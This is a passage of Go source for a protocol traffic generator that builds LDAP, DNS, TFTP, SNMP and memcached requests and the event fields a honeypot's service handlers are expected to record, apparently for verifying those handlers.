			return "error: AUTH TLS answered " + strings.TrimSpace(l)
		}
		return tlsPeer()
	case "smtp":
		readLine()
		io.WriteString(ep, "EHLO probe\r\n")
		for {
			l := readLine()
			if len(l) < 4 || l[3] != '-' {
				break
			}
		}
		io.WriteString(ep, "STARTTLS\r\n")
		if l := readLine(); !strings.HasPrefix(l, "220") {
			return "error: STARTTLS answered " + strings.TrimSpace(l)
		}
		return tlsPeer()
	case "ldap":
		req := bSeq(0x30, bInt(0x02, 1), bSeq(0x77, bStr(0x80, "1.3.6.1.4.1.1466.20037"))).enc(false)
		ep.Write(req)
		hdr := make([]byte, 2)
		if _, err := io.ReadFull(br, hdr); err != nil {
			return "error: no StartTLS response: " + err.Error()
		}
		if hdr[1]&0x80 != 0 {
			return "error: long StartTLS response"
		}
		body := make([]byte, int(hdr[1]))
		if _, err := io.ReadFull(br, body); err != nil {
			return "error: short StartTLS response"
		}
		return tlsPeer()
	}
	return "error: unknown service"
}

// bufConn lets a TLS client continue on a connection whose first bytes went through a bufio.Reader.
type bufConn struct {
	*simnet.Endpoint
	r *bufio.Reader
}

func (b *bufConn) Read(p []byte) (int, error) { return b.r.Read(p) }
