package htsim

import (
	"fmt"
	"hash/fnv"
	"strconv"
	"strings"
)

// LDAP (services/ldap).  Dialogue: BER-encoded LDAPv3 messages with increasing message ids.
//
// Event fields per request, verified from the source:
//
//	every request     ldap.message-id (int64)                                      ldap.go Handle
//	bind (simple)     ldap.request-type="bind" ldap.version ldap.username ldap.password   bind.go
//	                  (username = DN up to the first ',', a leading "cn="/"sn=" stripped)
//	bind (sasl)       as above without ldap.password, plus ldap.malformed-payload (message
//	                  value octets) and, from the catch-all, ldap.payload          bind.go, catchall.go
//	search            ldap.request-type="search" ldap.search-basedn -filter -filtervalue
//	                  -timelimit -sizelimit -scope -derefaliases                   search.go
//	extended          ldap.request-type="extended" ldap.extended-oid [ldap.extended-oid-value]   extended.go
//	add/modify/delete/modify-dn/compare/abandon
//	                  ldap.request-type=<name> ldap.payload=<re-encoded message>   catchall.go
//	unbind            ldap.request-type="unbind" (separate event.New in Handle)    ldap.go
//
// ldap.payload / ldap.extended-oid-value / ldap.malformed-payload are ber.Packet.Bytes(), i.e. a
// re-encoding with minimal definite lengths: the generator keeps the element tree and renders it
// twice (wire form with optional non-minimal long-form lengths, canonical form for the oracle).
//
// Deliberately not generated (reply bytes depend on Go map iteration order, which would make the
// run digest unstable, the events are unaffected): searches answered with the rootDSE (present
// filter with an empty attribute list while not logged in) and equality searches on uid/givenName.

func init() {
	registerProto(&proto{Name: "ldap", Port: 389, Gen: genLDAP})
}

// berNode is one BER element (tags < 31 only).
type berNode struct {
	id   byte // identifier octet: class | constructed bit | tag
	val  []byte
	kids []*berNode
	pad  int // wire form only: force a long-form length with this many length octets (0 = minimal)
}

func berLen(n, pad int) []byte {
	var min []byte
	for v := n; v > 0; v >>= 8 {
		min = append([]byte{byte(v)}, min...)
	}
	if len(min) == 0 {
		min = []byte{0}
	}
	if pad == 0 {
		if n < 128 {
			return []byte{byte(n)}
		}
		return append([]byte{0x80 | byte(len(min))}, min...)
	}
	if pad < len(min) {
		pad = len(min)
	}
	out := []byte{0x80 | byte(pad)}
	out = append(out, make([]byte, pad-len(min))...)
	return append(out, min...)
}

func (n *berNode) constructed() bool { return n.id&0x20 != 0 }

// enc renders the element; wire=false gives the canonical (minimal length) form that
// ber.Packet.Bytes() reproduces after parsing.
func (n *berNode) enc(wire bool) []byte {
	body := n.val
	if n.constructed() {
		body = nil
		for _, k := range n.kids {
			body = append(body, k.enc(wire)...)
		}
	}
	pad := 0
	if wire {
		pad = n.pad
	}
	out := append([]byte{n.id}, berLen(len(body), pad)...)
	return append(out, body...)
}

// content: canonical value octets (ber.Packet.Data)
func (n *berNode) content() []byte {
	if !n.constructed() {
		return n.val
	}
	var body []byte
	for _, k := range n.kids {
		body = append(body, k.enc(false)...)
	}
	return body
}

func (n *berNode) walk(f func(*berNode)) {
	f(n)
	for _, k := range n.kids {
		k.walk(f)
	}
}

func berIntBytes(v int64) []byte {
	// minimal two's complement, non-negative values only
	b := []byte{byte(v)}
	for v >>= 8; v > 0; v >>= 8 {
		b = append([]byte{byte(v)}, b...)
	}
	if b[0]&0x80 != 0 {
		b = append([]byte{0}, b...)
	}
	return b
}

func bInt(id byte, v int64) *berNode  { return &berNode{id: id, val: berIntBytes(v)} }
func bStr(id byte, s string) *berNode { return &berNode{id: id, val: []byte(s)} }
func bSeq(id byte, kids ...*berNode) *berNode {
	return &berNode{id: id | 0x20, kids: kids}
}
func bBool(v bool) *berNode {
	if v {
		return &berNode{id: 0x01, val: []byte{0xff}}
	}
	return &berNode{id: 0x01, val: []byte{0x00}}
}
func bOct(s string) *berNode { return bStr(0x04, s) }

// ldapFingerprint mirrors the "#search-fingerprint" computation of search.go (parseSearchRequest):
// ByteValue is only set for universal primitive elements.
func ldapFingerprint(rps []*berNode) string {
	var gcv func(n *berNode) string
	gcv = func(n *berNode) string {
		var sb strings.Builder
		if !n.constructed() && n.id&0xc0 == 0 && len(n.val) > 0 {
			sb.Write(n.val)
		}
		for _, k := range n.kids {
			cv := gcv(k)
			if sb.Len() > 0 && len(cv) > 0 {
				sb.WriteByte(',')
			}
			sb.WriteString(cv)
		}
		return sb.String()
	}
	var buf strings.Builder
	for _, n := range rps {
		s := gcv(n)
		if buf.Len() > 0 {
			buf.WriteByte(',')
		}
		buf.WriteString(s)
	}
	return buf.String()
}

// ldapBindUser mirrors bind.go: DN cut at the first comma, "cn="/"sn=" prefix removed.
func ldapBindUser(dn string) string {
	if i := strings.Index(dn, ","); i > -1 {
		dn = dn[:i]
	}
	if strings.HasPrefix(dn, "cn=") || strings.HasPrefix(dn, "sn=") {
		dn = dn[3:]
	}
	return dn
}

// ldapArcs renders s as numeric OID arcs (so that an OID can carry the scenario tag).
func ldapArcs(s string) string {
	var parts []string
	for _, c := range []byte(s) {
		parts = append(parts, strconv.Itoa(int(c)))
	}
	return strings.Join(parts, ".")
}

func genLDAP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	h := fnv.New32a()
	h.Write([]byte(tag))
	msgid := int64(h.Sum32()%9000+1) * 100 // connection-specific id range (2-3 octet integers)
	if r.Chance(0.3) {
		msgid = int64(r.Range(1, 100)) // 1 octet ids, crossing 127 -> 2 octets
	}
	suffix := r.Pick([]string{"dc=example,dc=com", "dc=ad,dc=myserver,dc=com", "o=" + tag})
	hexOf := func(b []byte) string { return fmt.Sprintf("bytes:%x", b) }

	control := func(u string) *berNode {
		c := bSeq(0x10, bOct("1.2.840.113556.1.4."+ldapArcs(u)))
		if r.Chance(0.5) {
			c.kids = append(c.kids, bBool(r.Chance(0.5)))
		}
		if r.Chance(0.5) {
			c.kids = append(c.kids, bOct(r.word(0, 12)))
		}
		return bSeq(0x80, c) // [0] Controls
	}

	// emit wraps the protocol op into an LDAPMessage, draws the wire form and appends the command.
	emit := func(op *berNode, ctl *berNode, note string, want func(id string, canon []byte, msg *berNode) []wantEv) {
		msgid += int64(r.Range(1, 3))
		msg := bSeq(0x10, bInt(0x02, msgid), op)
		if ctl != nil {
			msg.kids = append(msg.kids, ctl)
		}
		if r.Chance(0.6) {
			msg.walk(func(k *berNode) {
				if r.Chance(0.25) {
					k.pad = r.Range(1, 3)
				}
			})
		}
		id := strconv.FormatInt(msgid, 10)
		p := pcmd{Data: msg.enc(true), Note: fmt.Sprintf("%s id=%s", note, id)}
		p.Want = want(id, msg.enc(false), msg)
		out = append(out, p)
	}
	maybeCtl := func(u string) *berNode {
		if r.Chance(0.2) {
			return control(u)
		}
		return nil
	}
	// catchAll: requests only seen by catchall.go
	catchAll := func(op *berNode, ctl *berNode, typ string) {
		emit(op, ctl, typ, func(id string, canon []byte, _ *berNode) []wantEv {
			return []wantEv{{Field: "ldap.payload", Value: hexOf(canon), More: map[string]string{
				"ldap.request-type": typ, "ldap.message-id": id}}}
		})
	}
	attrList := func(u string, big bool) *berNode {
		l := bSeq(0x10)
		for k := r.Range(1, 3); k > 0; k-- {
			vals := bSeq(0x11)
			for j := r.Range(1, 2); j > 0; j-- {
				v := u + "-" + r.word(0, 16)
				if big && r.Chance(0.5) {
					v += r.word(130, 400) // forces genuine long-form lengths up the tree
				}
				vals.kids = append(vals.kids, bOct(v))
			}
			l.kids = append(l.kids, bSeq(0x10, bOct(r.Pick([]string{"cn", "sn", "mail", "userPassword", "objectClass", "description"})), vals))
		}
		return l
	}

	bind := func(i int) {
		u := fmt.Sprintf("%s%d", tag, i)
		var dn string
		switch r.Intn(5) {
		case 0:
			dn = "cn=" + u + "," + suffix
		case 1:
			dn = "sn=" + u
		case 2:
			dn = "uid=" + u + ",ou=people," + suffix
		case 3:
			dn = u
		default:
			dn = "cn=" + u + "\\+x,ou=" + r.word(1, 6) + "," + suffix
		}
		user := ldapBindUser(dn)
		version := int64(3)
		if r.Chance(0.2) {
			version = 2
		}
		if r.Chance(0.15) {
			// SASL bind: authentication choice [3] { mechanism, credentials }
			op := bSeq(0x40|0, bInt(0x02, version), bOct(dn),
				bSeq(0x80|3, bOct(r.Pick([]string{"PLAIN", "DIGEST-MD5", "GSSAPI"})), bOct(u+r.word(0, 20))))
			emit(op, maybeCtl(u), "bind-sasl "+dn, func(id string, canon []byte, msg *berNode) []wantEv {
				return []wantEv{{Field: "ldap.username", Value: user, More: map[string]string{
					"ldap.request-type": "bind", "ldap.version": strconv.FormatInt(version, 10), "ldap.message-id": id,
					"ldap.malformed-payload": hexOf(msg.content()), "ldap.payload": hexOf(canon)}}}
			})
			return
		}
		pw := u + "p" + r.word(0, 12)
		if r.Chance(0.15) {
			pw = ""
		}
		op := bSeq(0x40|0, bInt(0x02, version), bOct(dn), bStr(0x80, pw))
		emit(op, maybeCtl(u), "bind "+dn, func(id string, _ []byte, _ *berNode) []wantEv {
			return []wantEv{{Field: "ldap.username", Value: user, More: map[string]string{
				"ldap.request-type": "bind", "ldap.version": strconv.FormatInt(version, 10),
				"ldap.password": pw, "ldap.message-id": id}}}
		})
	}

	search := func(i int) {
		u := fmt.Sprintf("%s%d", tag, i)
		base := "ou=" + u + "," + suffix
		scope := int64(r.Intn(3))
		deref := int64(r.Intn(4))
		size := int64(ldapPickInt(r, 0, 1, 100, 1000, 70000))
		tl := int64(ldapPickInt(r, 0, 5, 30, 300))
		attrs := bSeq(0x10)
		for k := r.Intn(4); k > 0; k-- {
			attrs.kids = append(attrs.kids, bOct(r.Pick([]string{"cn", "mail", "memberOf", "*", "+", "objectClass", "userPassword"})))
		}
		eq := func() *berNode {
			return bSeq(0x80|3, bOct(r.Pick([]string{"cn", "mail", "sAMAccountName", "objectClass", "member"})), bOct(u+r.word(0, 10)))
		}
		var filter *berNode
		var fattr, fval string
		switch r.Intn(7) {
		case 0: // present: the attribute description is context-class, so ByteValue (hence the attribute) stays empty
			filter = bStr(0x80|7, r.Pick([]string{"objectClass", "cn", "uid"}))
			if len(attrs.kids) == 0 {
				attrs.kids = append(attrs.kids, bOct("cn")) // an empty list would fetch the rootDSE (map-ordered reply)
			}
			fattr, fval = "", ""
		case 1, 2: // equalityMatch
			filter = eq()
			fattr, fval = string(filter.kids[0].val), string(filter.kids[1].val)
		case 3: // and / or
			filter = bSeq(0x80|byte(r.Intn(2)), eq(), eq())
			if r.Chance(0.3) {
				filter.kids = append(filter.kids, bStr(0x80|7, "objectClass"))
			}
		case 4: // not
			filter = bSeq(0x80|2, eq())
		case 5: // substrings
			subs := bSeq(0x10)
			if r.Chance(0.6) {
				subs.kids = append(subs.kids, bStr(0x80, u))
			}
			subs.kids = append(subs.kids, bStr(0x81, r.word(1, 6)))
			if r.Chance(0.5) {
				subs.kids = append(subs.kids, bStr(0x82, r.word(1, 6)))
			}
			filter = bSeq(0x80|4, bOct(r.Pick([]string{"cn", "mail"})), subs)
		default: // greaterOrEqual / lessOrEqual / approxMatch
			filter = bSeq(0x80|byte(ldapPickInt(r, 5, 6, 8)), bOct("uidNumber"), bOct(strconv.Itoa(r.Intn(5000))))
		}
		if fattr == "" && filter.id != 0x87 {
			fattr = "#search-fingerprint"
			fval = ldapFingerprint([]*berNode{filter, attrs})
		}
		op := bSeq(0x40|3, bOct(base), bInt(0x0a, scope), bInt(0x0a, deref), bInt(0x02, size), bInt(0x02, tl), bBool(r.Chance(0.3)), filter, attrs)
		emit(op, maybeCtl(u), "search "+base, func(id string, _ []byte, _ *berNode) []wantEv {
			return []wantEv{{Field: "ldap.search-basedn", Value: base, More: map[string]string{
				"ldap.request-type":        "search",
				"ldap.message-id":          id,
				"ldap.search-filter":       fattr,
				"ldap.search-filtervalue":  fval,
				"ldap.search-sizelimit":    strconv.FormatInt(size, 10),
				"ldap.search-timelimit":    strconv.FormatInt(tl, 10),
				"ldap.search-scope":        []string{"baseObject", "singleLevel", "wholeSubtree"}[scope],
				"ldap.search-derefaliases": []string{"never", "inSearching", "FindingBaseObj", "always"}[deref],
			}}}
		})
	}

	extended := func(i int) {
		u := fmt.Sprintf("%s%d", tag, i)
		// never 1.3.6.1.4.1.1466.20037 (StartTLS)
		oid := r.Pick([]string{"1.3.6.1.4.1.4203.1.11.1", "1.3.6.1.4.1.4203.1.11.3", "1.3.6.1.1.8", "1.3.6.1.4.1.99999"}) + "." + ldapArcs(u)
		op := bSeq(0x40|23, bStr(0x80, oid))
		more := map[string]string{"ldap.request-type": "extended"}
		if r.Chance(0.6) {
			var v *berNode
			if r.Chance(0.5) {
				v = bStr(0x81, string(bSeq(0x10, bStr(0x80, "uid="+u), bStr(0x82, r.word(1, 200))).enc(false)))
			} else {
				v = &berNode{id: 0x81, val: r.Bytes(r.Range(0, 40))}
			}
			op.kids = append(op.kids, v)
			more["ldap.extended-oid-value"] = hexOf(v.enc(false))
		}
		emit(op, maybeCtl(u), "extended "+oid, func(id string, _ []byte, _ *berNode) []wantEv {
			more["ldap.message-id"] = id
			return []wantEv{{Field: "ldap.extended-oid", Value: oid, More: more}}
		})
	}

	request := func(i int) {
		u := fmt.Sprintf("%s%d", tag, i)
		dn := "cn=" + u + ",ou=" + r.word(1, 8) + "," + suffix
		switch r.Intn(10) {
		case 0, 1:
			search(i)
		case 2:
			catchAll(bSeq(0x40|8, bOct(dn), attrList(u, true)), maybeCtl(u), "add")
		case 3:
			changes := bSeq(0x10)
			for k := r.Range(1, 3); k > 0; k-- {
				al := attrList(u, false)
				changes.kids = append(changes.kids, bSeq(0x10, bInt(0x0a, int64(r.Intn(3))), al.kids[0]))
			}
			catchAll(bSeq(0x40|6, bOct(dn), changes), maybeCtl(u), "modify")
		case 4:
			catchAll(bStr(0x40|10, dn), maybeCtl(u), "delete")
		case 5:
			op := bSeq(0x40|12, bOct(dn), bOct("cn="+u+"x"), bBool(r.Chance(0.5)))
			if r.Chance(0.5) {
				op.kids = append(op.kids, bStr(0x80, "ou="+r.word(1, 8)+","+suffix))
			}
			catchAll(op, maybeCtl(u), "modify-dn")
		case 6:
			catchAll(bSeq(0x40|14, bOct(dn), bSeq(0x10, bOct(r.Pick([]string{"userPassword", "cn", "memberOf"})), bOct(r.word(0, 150)))), maybeCtl(u), "compare")
		case 7:
			// AbandonRequest carries no DN: a control makes the (recorded) message attributable
			catchAll(bInt(0x40|16, msgid), control(u), "abandon")
		case 8:
			extended(i)
		default:
			bind(i) // re-bind in the middle of the dialogue
		}
	}

	if r.Chance(0.6) {
		bind(0)
	}
	for i := 1; i <= n; i++ {
		request(i)
	}
	if r.Chance(0.5) {
		var ctl *berNode
		if r.Chance(0.3) {
			ctl = control(tag + "u")
		}
		emit(&berNode{id: 0x40 | 2}, ctl, "unbind", func(id string, _ []byte, _ *berNode) []wantEv {
			// the unbind event has no other field than the (connection-specific) message id
			return []wantEv{{Field: "ldap.message-id", Value: id, More: map[string]string{"ldap.request-type": "unbind"}}}
		})
		out[len(out)-1].Closes = true
	}
	return out
}

func ldapPickInt(r *Rng, xs ...int) int { return xs[r.Intn(len(xs))] }
