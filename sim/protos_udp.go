package htsim

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"
	"strconv"
	"strings"
)

// UDP protocol descriptions for the dialogue engine (C04): every pcmd is ONE datagram.
//
// Every expectation below is taken from the service's event.New(...) call for the UDP path:
//
//	dns           services/dns.go:79-89        dns.id, dns.opcode, dns.questions ([]dns.Question, rendered as JSON)
//	tftp          services/tftp.go:97-106 (RRQ), 135-144 (WRQ), 180-191 (last DATA block); names are
//	              recorded as bufio.ReadString(0) returns them (tftp.go:87,92,125,130), i.e. with the NUL
//	snmp          services/snmp/snmp.go:97-106 (version != 0), 132-142 (v1 get/getnext/set)
//	memcached     services/memcached.go:82-91 (one per command line), 200-213 (storage commands)
//	counterstrike services/counterstrike.go:110-170
//	echo          services/echo.go:61-67
//	ntp           services/ntp.go:46-49 emits no event at all (io.Copy to stdout): no Want can be stated
//
// The dns and echo expectations describe the handlers' DummyUDPConn branch (dns.go:55, echo.go:48).
//
// tftp (services/tftp.go:65) and memcached (services/memcached.go:95-98) consult the per-IP limiter
// (services/limiter.go: burst 4 per 10 min) before resp. while reporting, so past the 4th request of
// one source the reports stop.  The generators do not avoid that by default.  VERIF_UDP_MAXREQ=k keeps
// a dialogue within k limiter-charged requests (triage aid: k=4 shows what else is wrong).
func udpMaxReq() int {
	if v, err := strconv.Atoi(os.Getenv("VERIF_UDP_MAXREQ")); err == nil && v > 0 {
		return v
	}
	return udpMaxReqV
}

// udpMaxReqV is set by the scenario generators (C04: mostly 4 = within the limiter's burst).
var udpMaxReqV = 1 << 30

func init() {
	registerProto(&proto{Name: "dns", Port: 53, UDP: true, Gen: genDNSUDP})
	registerProto(&proto{Name: "tftp", Port: 69, UDP: true, Gen: genTFTP})
	registerProto(&proto{Name: "snmp", Port: 161, UDP: true, Gen: genSNMP})
	registerProto(&proto{Key: "memcached-udp", Name: "memcached", Port: 11211, UDP: true, Gen: genMemcachedUDP})
	registerProto(&proto{Name: "counterstrike", Port: 27015, UDP: true, Gen: genCounterStrike})
	registerProto(&proto{Name: "ntp", Port: 123, UDP: true, Gen: genNTP})
	registerProto(&proto{Key: "echo-udp", Name: "echo", Port: 7, UDP: true, Gen: genEchoUDP})
}

// ---------------------------------------------------------------------------------------------
// dns

func dnsWireName(name string) []byte {
	var b []byte
	for _, l := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return append(b, 0)
}

func genDNSUDP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	qtypes := []int{1, 2, 5, 6, 12, 15, 16, 28, 33, 255}
	tlds := []string{"example.com.", "example.org.", "test.", "sub.example.net."}
	for i := 0; i < n; i++ {
		id := r.Intn(65536)
		nq := 1
		if r.Chance(0.15) {
			nq = 2
		}
		edns := r.Chance(0.5)
		hdr := make([]byte, 12)
		binary.BigEndian.PutUint16(hdr[0:], uint16(id))
		flags := uint16(0)
		if r.Chance(0.8) {
			flags |= 0x0100 // RD
		}
		binary.BigEndian.PutUint16(hdr[2:], flags) // QR=0, opcode 0 (QUERY)
		binary.BigEndian.PutUint16(hdr[4:], uint16(nq))
		if edns {
			binary.BigEndian.PutUint16(hdr[10:], 1)
		}
		msg := hdr
		var qs []string
		var note string
		for k := 0; k < nq; k++ {
			name := fmt.Sprintf("%s%d", tag, i)
			if k > 0 {
				name = fmt.Sprintf("q%d.%s%d", k, tag, i)
			}
			if r.Chance(0.5) {
				name = r.word(1, 8) + "." + name
			}
			name += "." + r.Pick(tlds)
			qt := qtypes[r.Intn(len(qtypes))]
			qc := 1
			if r.Chance(0.1) {
				qc = 3 // CH
			}
			msg = append(msg, dnsWireName(name)...)
			msg = append(msg, byte(qt>>8), byte(qt), byte(qc>>8), byte(qc))
			// json.Marshal of dns.Question{Name string; Qtype, Qclass uint16} (no json tags)
			qs = append(qs, fmt.Sprintf(`{"Name":%q,"Qtype":%d,"Qclass":%d}`, name, qt, qc))
			note += name + " "
		}
		if edns {
			// OPT pseudo-RR: root name, type 41, class = UDP payload size, ttl 0, no options
			msg = append(msg, 0, 0, 41, 0x10, 0x00, 0, 0, 0, 0, 0, 0)
		}
		out = append(out, pcmd{
			Data: msg,
			Want: []wantEv{{Field: "dns.questions", Value: "[" + strings.Join(qs, ",") + "]", More: map[string]string{
				"dns.id":     fmt.Sprintf("%d", id),
				"dns.opcode": "0",
				"category":   "dns",
				"type":       "dns",
			}}},
			Note: "query " + strings.TrimSpace(note),
		})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// tftp

func tftpReq(op byte, file, mode string, opts ...string) []byte {
	b := []byte{0, op}
	b = append(b, file...)
	b = append(b, 0)
	b = append(b, mode...)
	b = append(b, 0)
	for _, o := range opts {
		b = append(b, o...)
		b = append(b, 0)
	}
	return b
}

func genTFTP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	max := udpMaxReq()
	modes := []string{"octet", "netascii", "OCTET", "mail"}
	exts := []string{".bin", ".cfg", ".txt", "", ".img"}
	for i := 0; i < n && len(out) < max; i++ {
		file := fmt.Sprintf("%s%d%s", tag, i, r.Pick(exts))
		if r.Chance(0.3) {
			file = "/" + r.word(1, 6) + "/" + file
		}
		mode := r.Pick(modes)
		var opts []string
		if r.Chance(0.3) {
			opts = []string{"blksize", "1428"}
			if r.Chance(0.5) {
				opts = append(opts, "tsize", "0")
			}
		}
		// the service records the strings as bufio.ReadString(0) returns them: with the NUL
		more := func(typ string) map[string]string {
			return map[string]string{"type": typ, "tftp.mode": mode + "\x00", "category": "tftp", "protocol": "udp"}
		}
		switch k := r.Intn(10); {
		case k < 4:
			out = append(out, pcmd{Data: tftpReq(1, file, mode, opts...), Note: "RRQ " + file,
				Want: []wantEv{{Field: "tftp.filename", Value: file + "\x00", More: more("tftp-read")}}})
		case k < 6:
			out = append(out, pcmd{Data: tftpReq(2, file, mode, opts...), Note: "WRQ " + file,
				Want: []wantEv{{Field: "tftp.filename", Value: file + "\x00", More: more("tftp-write")}}})
		default:
			// a complete upload: WRQ, full 512-byte blocks, one short block.  The WRQ's event and the
			// final "tftp-write-file" event carry the same file name, so only the latter is pinned
			// (by the unique content); it cannot appear unless the WRQ was processed.
			blocks := r.Intn(3)
			if len(out)+blocks+2 > max {
				blocks = 0
			}
			if len(out)+2 > max {
				out = append(out, pcmd{Data: tftpReq(2, file, mode), Note: "WRQ " + file,
					Want: []wantEv{{Field: "tftp.filename", Value: file + "\x00", More: more("tftp-write")}}})
				continue
			}
			out = append(out, pcmd{Data: tftpReq(2, file, mode), Note: "WRQ(upload) " + file})
			var content []byte
			for b := 1; b <= blocks; b++ {
				blk := []byte(fmt.Sprintf("%s%d-block%d-", tag, i, b))
				for len(blk) < 512 {
					blk = append(blk, alnum[r.Intn(len(alnum))])
				}
				content = append(content, blk...)
				out = append(out, pcmd{Data: append([]byte{0, 3, byte(b >> 8), byte(b)}, blk...), Note: fmt.Sprintf("DATA %d (512) %s", b, file)})
			}
			last := []byte(fmt.Sprintf("%s%d-last-%s", tag, i, r.word(0, 200)))
			content = append(content, last...)
			lb := blocks + 1
			m := more("tftp-write-file")
			m["tftp.filename"] = file + "\x00"
			m["tftp.file"] = fmt.Sprintf("bytes:%x", content)
			out = append(out, pcmd{Data: append([]byte{0, 3, byte(lb >> 8), byte(lb)}, last...), Note: fmt.Sprintf("DATA %d (%d, last) %s", lb, len(last), file),
				Want: []wantEv{{Field: "tftp.file-hex", Value: hex.EncodeToString(content), More: m}}})
		}
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// snmp (BER by hand)

func snmpBerLen(n int) []byte {
	switch {
	case n < 128:
		return []byte{byte(n)}
	case n < 256:
		return []byte{0x81, byte(n)}
	default:
		return []byte{0x82, byte(n >> 8), byte(n)}
	}
}

func snmpBerTLV(tag byte, content []byte) []byte {
	b := append([]byte{tag}, snmpBerLen(len(content))...)
	return append(b, content...)
}

// snmpBerInt: INTEGER, v >= 0, minimal two's complement
func snmpBerInt(v int) []byte {
	var c []byte
	for {
		c = append([]byte{byte(v)}, c...)
		v >>= 8
		if v == 0 {
			break
		}
	}
	if c[0]&0x80 != 0 {
		c = append([]byte{0}, c...)
	}
	return snmpBerTLV(0x02, c)
}

func snmpBerOID(arcs []int) []byte {
	c := []byte{byte(arcs[0]*40 + arcs[1])}
	for _, a := range arcs[2:] {
		var t []byte
		t = append(t, byte(a&0x7f))
		for a >>= 7; a > 0; a >>= 7 {
			t = append([]byte{byte(a&0x7f) | 0x80}, t...)
		}
		c = append(c, t...)
	}
	return snmpBerTLV(0x06, c)
}

func snmpOIDString(arcs []int) string {
	var b strings.Builder
	for _, a := range arcs {
		fmt.Fprintf(&b, ".%d", a)
	}
	return b.String()
}

var snmpOIDs = [][]int{
	{1, 3, 6, 1, 2, 1, 1, 1, 0},
	{1, 3, 6, 1, 2, 1, 1, 3, 0},
	{1, 3, 6, 1, 2, 1, 1, 5, 0},
	{1, 3, 6, 1, 2, 1, 1, 6, 0},
	{1, 3, 6, 1, 2, 1, 2, 2, 1, 2},
	{1, 3, 6, 1, 2, 1, 25, 4, 2, 1, 2},
	{1, 3, 6, 1, 4, 1, 2021, 4, 5, 0},
	{1, 3, 6, 1, 4, 1, 9, 9, 96, 1, 1, 1, 1, 2},
	{1, 3, 6, 1, 6, 3, 15, 1, 1, 4, 0},
	{1, 3},
}

func genSNMP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		community := fmt.Sprintf("%s%d", tag, i)
		if r.Chance(0.4) {
			community = r.Pick([]string{"public-", "private-", "cisco-"}) + community
		}
		version := 0
		if r.Chance(0.3) {
			version = 1 // v2c
		}
		// PDU kind
		pduTag, typ := byte(0xa0), "get-request"
		switch k := r.Intn(10); {
		case k < 4:
		case k < 8:
			pduTag, typ = 0xa1, "get-next-request"
		default:
			pduTag, typ = 0xa3, "set-request"
		}
		bulk := version == 1 && r.Chance(0.4)
		if bulk {
			pduTag = 0xa5
		}
		nvars := r.Range(1, 3)
		if r.Chance(0.06) {
			nvars = r.Range(7, 12) // a walk-style request: the message needs a long-form BER length (>127 bytes)
		}
		var vbs []byte
		var oids []string
		for k := 0; k < nvars; k++ {
			arcs := append([]int(nil), snmpOIDs[r.Intn(len(snmpOIDs))]...)
			if r.Chance(0.5) {
				arcs = append(arcs, r.Range(0, 70000))
			}
			val := []byte{0x05, 0x00} // NULL
			if pduTag == 0xa3 {
				if r.Chance(0.5) {
					val = snmpBerInt(r.Intn(100000))
				} else {
					val = snmpBerTLV(0x04, []byte(r.word(0, 12)))
				}
			}
			vbs = append(vbs, snmpBerTLV(0x30, append(snmpBerOID(arcs), val...))...)
			oids = append(oids, snmpOIDString(arcs))
		}
		reqID := r.Intn(1 << 31)
		var pdu []byte
		pdu = append(pdu, snmpBerInt(reqID)...)
		if bulk {
			pdu = append(pdu, snmpBerInt(0)...)              // non-repeaters
			pdu = append(pdu, snmpBerInt(r.Range(1, 50))...) // max-repetitions
		} else {
			pdu = append(pdu, snmpBerInt(0)...) // error-status
			pdu = append(pdu, snmpBerInt(0)...) // error-index
		}
		pdu = append(pdu, snmpBerTLV(0x30, vbs)...)
		var body []byte
		body = append(body, snmpBerInt(version)...)
		body = append(body, snmpBerTLV(0x04, []byte(community))...)
		body = append(body, snmpBerTLV(pduTag, pdu)...)
		msg := snmpBerTLV(0x30, body)
		more := map[string]string{
			"category":       "snmp",
			"snmp.version":   fmt.Sprintf("%d", version),
			"payload-hex":    hex.EncodeToString(msg),
			"payload-length": fmt.Sprintf("%d", len(msg)),
		}
		if version == 0 {
			more["type"] = typ
			more["snmp.oids"] = strings.Join(oids, ",")
		} else {
			more["type"] = "unknown-packet" // services/snmp/snmp.go:94-108: anything but v1 is reported like this
			typ = "v2c " + typ
			if bulk {
				typ = "v2c get-bulk"
			}
		}
		out = append(out, pcmd{Data: msg, Note: fmt.Sprintf("%s community=%s vars=%d len=%d", typ, community, nvars, len(msg)),
			Want: []wantEv{{Field: "snmp.community", Value: community, More: more}}})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// memcached over UDP: 8-byte frame header (request id, sequence 0, total 1, reserved 0) + text

func genMemcachedUDP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	max := udpMaxReq()
	ci := 0 // command index (scenario-unique)
	for i := 0; i < n && ci < max; i++ {
		hdr := []byte{0, 0, 0, 0, 0, 1, 0, 0}
		binary.BigEndian.PutUint16(hdr, uint16(r.Intn(65536)))
		ncmd := 1
		if r.Chance(0.35) {
			ncmd = r.Range(2, 3)
		}
		data := hdr
		var want []wantEv
		var notes []string
		for k := 0; k < ncmd && ci < max; k++ {
			key := fmt.Sprintf("%s%d", tag, ci)
			ci++
			lineMore := func(line string) map[string]string {
				return map[string]string{"type": "memcached-command", "protocol": "udp", "category": "memcached",
					"memcached.command-hex": hex.EncodeToString([]byte(line))}
			}
			switch r.Intn(7) {
			case 0, 1:
				line := r.Pick([]string{"get ", "gets "}) + key
				data = append(data, line+"\r\n"...)
				want = append(want, wantEv{Field: "memcached.command", Value: line, More: lineMore(line)})
				notes = append(notes, line)
			case 2:
				line := r.Pick([]string{"delete ", "stats ", "flush_all ", "incr ", "touch "}) + key
				data = append(data, line+"\r\n"...)
				want = append(want, wantEv{Field: "memcached.command", Value: line, More: lineMore(line)})
				notes = append(notes, line)
			default:
				verb := r.Pick([]string{"set", "add", "replace", "append", "prepend"})
				val := r.word(1, 70)
				flags, exp := r.Intn(4), r.Intn(100)
				line := fmt.Sprintf("%s %s %d %d %d", verb, key, flags, exp, len(val))
				data = append(data, line+"\r\n"+val+"\r\n"...)
				want = append(want,
					wantEv{Field: "memcached.command", Value: line, More: lineMore(line)},
					wantEv{Field: "memcached.key", Value: key, More: map[string]string{
